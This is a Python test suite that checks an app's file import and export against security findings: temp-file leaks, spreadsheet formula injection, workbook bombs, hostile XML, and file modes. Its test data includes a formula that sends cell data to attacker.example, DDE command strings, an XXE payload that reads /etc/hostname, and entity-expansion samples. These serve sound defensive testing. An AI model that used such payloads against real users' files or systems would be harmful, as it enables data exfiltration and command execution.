"""The security probe's cases for files: temp files, formula injection, workbook bombs, modes.

Each test reproduces one finding of docs/security.md (D1, D2, D4, D8, D13, D19).
"""

from __future__ import annotations

import errno
import io
import os
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from caseapp.domain.models import TracingRequest
from caseapp.errors import BadInput
from caseapp.io.exporter import export_records
from caseapp.io.importer import plan_import
from caseapp.io.tables import MAX_CELL, read_table
from caseapp.store import Session

#: The probe's payloads: each would become a live formula or a DDE call in a spreadsheet.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&B2,"news")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted",
    "'plain apostrophe",
]
SENTINELS = ("Zgurskyi-Sentinel", "SENTINEL-NOTE-7781")


def sentinel_hits(*folders: Path, skip: tuple[Path, ...] = ()) -> list[Path]:
    """Files under ``folders`` holding a sentinel in UTF-8 or UTF-16 (the probe's scan)."""
    needles = [s.encode(enc) for s in SENTINELS for enc in ("utf-8", "utf-16-le", "utf-16-be")]
    hits = []
    for folder in folders:
        for root, _dirs, files in os.walk(folder):
            for name in files:
                path = Path(root) / name
                if any(path == s or s in path.parents for s in skip):
                    continue
                try:
                    data = path.read_bytes()
                except OSError:
                    continue
                if any(n in data for n in needles):
                    hits.append(path)
    return hits


def _sentinel_people(session: Session, count: int = 3) -> None:
    with session.transaction("add") as txn:
        for i in range(count):
            txn.create(
                TracingRequest(
                    family_name=PAYLOADS[i % len(PAYLOADS)],
                    given_name="Zgurskyi-Sentinel",
                    enquirer_name="=2+3" if i == 0 else "Mother",
                    notes="SENTINEL-NOTE-7781",
                )
            )


@pytest.fixture
def own_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The system temp folder, pointed somewhere the scan can cover completely."""
    folder = tmp_path / "systemp"
    folder.mkdir()
    monkeypatch.setenv("TMPDIR", str(folder))
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def test_xlsx_export_leaves_nothing_outside_the_chosen_file(
    session: Session, tmp_path: Path, own_tmp: Path
) -> None:
    """D1: nothing readable in the temp folder, the home or the vault's folder after export."""
    _sentinel_people(session, 30)
    out = tmp_path / "out"
    out.mkdir()
    target = out / "list.xlsx"
    assert export_records(session.conn, "requests", target) == 30
    assert sorted(p.name for p in out.iterdir()) == ["list.xlsx"]
    home = Path(os.environ["CASEAPP_HOME"])
    assert sentinel_hits(own_tmp, tmp_path, home, skip=(target,)) == []
    assert stat.S_IMODE(target.stat().st_mode) == 0o600  # D13


KILLED_EXPORT = """
import sys, time
from caseapp.io import exporter
from caseapp.vault.vault import Vault
from caseapp.accounts import unlock_session
session = unlock_session(sys.argv[1], "admin", "correct horse battery")
real = exporter.write_xlsx
def slow(handle, name, header, rows):
    for n in real(handle, name, header, rows):
        if n == 20:
            print("MID", flush=True)
            time.sleep(60)
        yield n
exporter.write_xlsx = slow
exporter.export_records(session.conn, "requests", sys.argv[2])
"""


def test_killed_export_leaves_no_plaintext_outside_the_chosen_folder(
    session: Session, vault_path: Path, tmp_path: Path, own_tmp: Path
) -> None:
    """D1/D19: SIGKILL in the middle of an XLSX export: no copy in the temp folder or home."""
    _sentinel_people(session, 40)
    out = tmp_path / "out"
    out.mkdir()
    env = {**os.environ, "TMPDIR": str(own_tmp), "CASEAPP_TEST_WEAK_KDF": "1"}
    proc = subprocess.Popen(
        [sys.executable, "-c", KILLED_EXPORT, str(vault_path), str(out / "k.xlsx")],
        stdout=subprocess.PIPE,
        env=env,
        cwd=Path(__file__).resolve().parents[1],
    )
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == b"MID"
    proc.kill()
    proc.wait()
    home = Path(os.environ["CASEAPP_HOME"])
    assert sentinel_hits(own_tmp, home, vault_path.parent, skip=(out,)) == []
    assert not (out / "k.xlsx").exists()
    left = list(out.iterdir())  # only the owner-only .part in the chosen folder, if anything
    assert all(p.name == "k.xlsx.part" and stat.S_IMODE(p.stat().st_mode) == 0o600 for p in left)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formulas_are_exported_as_text_and_import_back_unchanged(
    session: Session, tmp_path: Path, suffix: str
) -> None:
    """D2: no spreadsheet evaluates an exported name, and the export re-imports to the same."""
    _sentinel_people(session, len(PAYLOADS))
    target = tmp_path / f"e{suffix}"
    columns = ["family_name", "given_name", "enquirer_name"]
    export_records(session.conn, "requests", target, columns, sort_field="family_name")
    if suffix == ".csv":
        text = target.read_text(encoding="utf-8-sig")
        for line in text.splitlines()[1:]:
            assert line[0] not in "=+-@\t\r"
            assert ",=" not in line and ",+" not in line and ",-" not in line
    else:
        with zipfile.ZipFile(target) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet
        loaded = openpyxl.load_workbook(target).worksheets[0]
        assert all(c.data_type != "f" for row in loaded.iter_rows() for c in row)
    table = read_table(target)
    stored = sorted(
        tuple(r)
        for r in session.conn.execute(
            "SELECT family_name, given_name, enquirer_name FROM tracing_request"
        )
    )
    assert sorted(tuple(r) for r in table.rows) == stored
    plan = plan_import(session.conn, "requests", table)
    assert not plan.invalid


def _workbook(sheet_xml: str, extra: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["family_name", "given_name", "enquirer_name"])
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml.encode()
            target.writestr(info.filename, data)
        for name, text in (extra or {}).items():
            target.writestr(name, text)
    return out.getvalue()


_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _sheet(rows: str) -> str:
    return f'<?xml version="1.0"?><worksheet {_NS}><sheetData>{rows}</sheetData></worksheet>'


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def test_a_huge_cell_is_refused_quickly_in_bounded_memory(tmp_path: Path) -> None:
    """D4: a 40 MB cell (a 45 KB file) is refused before anything is built from it."""
    header = f'<row r="1">{_inline("A1", "family_name")}{_inline("B1", "enquirer_name")}</row>'
    big = f'<row r="2">{_inline("A2", "A" * 40_000_000)}{_inline("B2", "x")}</row>'
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_workbook(_sheet(header + big)))
    assert path.stat().st_size < 200_000
    started = time.monotonic()
    with pytest.raises(BadInput, match=str(MAX_CELL)):
        read_table(path)
    assert time.monotonic() - started < 20  # the probe: 163 s and an out-of-memory kill


def test_a_sheet_with_too_many_rows_is_refused_while_streaming(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """D4: the row limit is counted as rows stream, not after the whole sheet is loaded."""
    from caseapp.io import tables

    monkeypatch.setattr(tables, "MAX_ROWS", 1000)
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 5000))
    path = tmp_path / "rows.xlsx"
    path.write_bytes(_workbook(_sheet(rows)))
    with pytest.raises(BadInput, match="more than 1000 rows"):
        read_table(path)


@pytest.mark.parametrize(
    "sheet",
    [
        _sheet('<row r="1">')[: -len("</sheetData></worksheet>")],  # truncated XML
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        f'<worksheet {_NS}><sheetData><row r="1"><c t="inlineStr"><is><t>&x;</t></is></c>'
        "</row></sheetData></worksheet>",
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        f"<worksheet {_NS}><sheetData/></worksheet>",
    ],
    ids=["truncated", "xxe", "entities"],
)
def test_malformed_or_hostile_xml_gives_one_clear_line(tmp_path: Path, sheet: str) -> None:
    """D8: truncated XML, XXE and entity expansion: a BadInput, never a traceback."""
    path = tmp_path / "bad.xlsx"
    path.write_bytes(_workbook(sheet))
    with pytest.raises(BadInput):
        read_table(path)


def test_a_workbook_with_no_sheet_gives_one_clear_line(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if not info.filename.startswith("xl/worksheets/"):
                target.writestr(info.filename, source.read(info))
    path = tmp_path / "nosheet.xlsx"
    path.write_bytes(out.getvalue())
    with pytest.raises(BadInput):
        read_table(path)


@pytest.mark.parametrize(
    ("code", "words"),
    [(errno.EACCES, "permission"), (errno.EROFS, "read-only"), (errno.ENOSPC, "disk is full")],
)
def test_export_failures_say_why_and_leave_nothing(
    session: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int, words: str
) -> None:
    """D8/D19: a folder without write permission (as a non-root user sees it), a read-only
    medium, a full disk: one sentence naming the cause, no .part left. The failure is
    injected at the write call, so the test also runs as root."""
    from caseapp import safefile

    _sentinel_people(session)
    folder = tmp_path / "target"
    folder.mkdir()
    real = safefile.open_private

    def failing(path: Path) -> object:
        handle = real(path)
        handle.close()  # the .part exists, then the write fails, as on a real medium
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(safefile, "open_private", failing)
    with pytest.raises(BadInput, match=words):
        export_records(session.conn, "requests", folder / "x.csv")
    assert list(folder.iterdir()) == []


def test_export_on_a_full_disk_says_so_and_leaves_nothing(session: Session, tmp_path: Path) -> None:
    """D8/D19: the disk fills mid-export (RLIMIT_FSIZE): "disk is full", no .part left."""
    _sentinel_people(session, 200)
    script = """
import resource, signal, sys
from caseapp.accounts import unlock_session
from caseapp.errors import BadInput
from caseapp.io.exporter import export_records
session = unlock_session(sys.argv[1], "admin", "correct horse battery")
session.conn.execute("SELECT count(*) FROM tracing_request").fetchone()
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
try:
    export_records(session.conn, "requests", sys.argv[2])
except BadInput as exc:
    print(exc)
"""
    vault = session.vault.path
    session.vault.close()
    out = tmp_path / "full"
    out.mkdir()
    env = {**os.environ, "CASEAPP_TEST_WEAK_KDF": "1"}
    result = subprocess.run(
        [sys.executable, "-c", script, str(vault), str(out / "x.csv")],
        capture_output=True,
        text=True,
        env=env,
        cwd=Path(__file__).resolve().parents[1],
        check=False,
    )
    assert "disk is full" in result.stdout, result.stderr
    assert list(out.iterdir()) == []


def test_a_letter_batch_leaves_nothing_outside_the_chosen_folder(
    session: Session, tmp_path: Path, own_tmp: Path
) -> None:
    """D1/D13: the sentinel scan after a letter batch; the files are owner-only."""
    from caseapp.letters import generate_batch, write_batch
    from caseapp.letters.profile import SAMPLE_PROFILE, save_profile
    from tests.letters.helpers import TODAY, add_case

    save_profile(session, SAMPLE_PROFILE)
    ids = [
        add_case(
            session, enquirer="Zgurskyi-Sentinel Ганна", address="SENTINEL-NOTE-7781"
        ).request.id
        for _ in range(3)
    ]
    result = generate_batch(session, "confirmation_held", ids, today=TODAY)
    out = tmp_path / "letters"
    written = write_batch(result, merged_path=tmp_path / "merged.pdf", folder=out)
    assert len(written) == 4
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in written)
    home = Path(os.environ["CASEAPP_HOME"])
    hits = sentinel_hits(own_tmp, home, session.vault.path.parent, skip=(out, *written))
    assert hits == []


def test_a_failing_batch_write_leaves_no_half_batch(session: Session, tmp_path: Path) -> None:
    """D19: the disk fills in the middle of a split batch: the files already written go too."""
    from caseapp.letters import generate_batch, write_batch
    from caseapp.letters.profile import SAMPLE_PROFILE, save_profile
    from tests.letters.helpers import TODAY, add_case

    save_profile(session, SAMPLE_PROFILE)
    ids = [add_case(session).request.id for _ in range(3)]
    result = generate_batch(session, "confirmation_held", ids, today=TODAY)
    result.letters[2].ref = "missing-folder/x"  # the third write fails
    out = tmp_path / "split"
    with pytest.raises(BadInput):
        write_batch(result, folder=out)
    assert list(out.iterdir()) == []
